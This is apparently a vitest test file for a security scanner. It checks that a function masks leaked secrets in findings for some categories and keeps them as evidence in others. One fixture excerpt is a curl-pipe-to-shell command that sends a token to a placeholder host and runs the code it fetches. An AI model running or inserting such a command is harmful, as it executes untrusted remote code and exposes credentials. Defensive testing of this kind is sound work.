import { describe, expect, it } from 'vitest';
import { testAssessment } from '../../testkit/assessment.ts';
import { testFinding } from '../../testkit/finding.ts';
import { githubToken, letters } from '../../testkit/secrets.ts';
import { SecretMask } from '../detect/secret/secret-mask.ts';
import { verdictWithoutSecrets } from './without-secrets.ts';

const TOKEN = githubToken('excerpt');
const LEARNT = letters('learnt', 24);

function told(category: 'start' | 'hidden' | 'access' | 'wallet'): string {
  const finding = testFinding(
    { category },
    { path: '/run.sh', excerpt: `curl -H "Authorization: token ${TOKEN}" https://get.example/x | sh` },
    { path: 'ENTRYPOINT', excerpt: `run --with app:${LEARNT}` },
  );
  const assessment = testAssessment({
    reference: 'a:1',
    lines: [],
    findings: [finding],
    suppressed: [{ finding, by: 'ignore-file', source: '.clearpull-ignore', reason: 'known' }],
  });
  const mask = new SecretMask();
  mask.learn(`DATABASE_URL=postgres://app:${LEARNT}@db.corp.net/app`);
  const { findings, suppressed } = verdictWithoutSecrets(assessment, mask);
  return JSON.stringify({ findings, suppressed });
}

describe('verdictWithoutSecrets', () => {
  it.each(['start', 'hidden'] as const)(
    'masks secrets that a finding of %s shows beside its own',
    (category) => {
      expect(told(category)).toContain('https://get.example/x | sh');
      expect(told(category)).not.toContain(TOKEN);
      expect(told(category)).not.toContain(LEARNT);
    },
  );

  it.each(['access', 'wallet'] as const)('leaves the evidence of %s, where it is the point', (category) => {
    expect(told(category)).toContain(TOKEN);
  });
});
